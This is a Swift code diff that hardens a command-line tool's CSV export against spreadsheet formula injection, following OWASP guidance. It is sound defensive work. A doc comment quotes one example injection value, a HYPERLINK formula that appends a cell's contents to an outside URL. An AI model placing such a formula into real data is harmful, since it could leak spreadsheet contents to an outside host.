@@ -34,7 +34,8 @@ enum Output {
         FileHandle.standardError.write(Data((text + "\n").utf8))
     }
 
-    /// RFC 4180 CSV: every field quoted when it holds a comma, quote or line break.
+    /// RFC 4180 CSV: every field quoted when it holds a comma, quote or line
+    /// break, and neutralised when a spreadsheet would read it as a formula.
     static func csv(header: [String], rows: [[String]]) {
         var text = ""
         for row in [header] + rows {
@@ -43,9 +44,28 @@ enum Output {
         FileHandle.standardOutput.write(Data(text.utf8))
     }
 
+    /// One CSV cell, for every CSV casetrack writes (lists and `export`):
+    /// neutralised against formulas (``formulaSafe(_:)``), then quoted when
+    /// it holds a comma, quote or line break.
     static func csvField(_ field: String) -> String {
+        let field = formulaSafe(field)
         guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
         return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+    }
+
+    /// A cell a spreadsheet would run as a formula (one beginning with `=`,
+    /// `+`, `-`, `@`, a tab or a carriage return, as in
+    /// `=HYPERLINK("http://example.org/?"&A1)` typed into a name) gets a
+    /// single quote in front, as OWASP's CSV-injection guidance says, so
+    /// it shows as the text it is. A plain number (`-3`, `-0.5`) is left
+    /// as it is: it cannot be a formula.
+    static func formulaSafe(_ field: String) -> String {
+        guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return field }
+        if first == "-", field.count > 1, field.dropFirst().allSatisfy({ $0.isASCII && ($0.isNumber || $0 == ".") }),
+           field.filter({ $0 == "." }).count <= 1, field.dropFirst().first?.isNumber == true {
+            return field
+        }
+        return "'" + field
     }
 
     /// Columns padded to their widest cell.
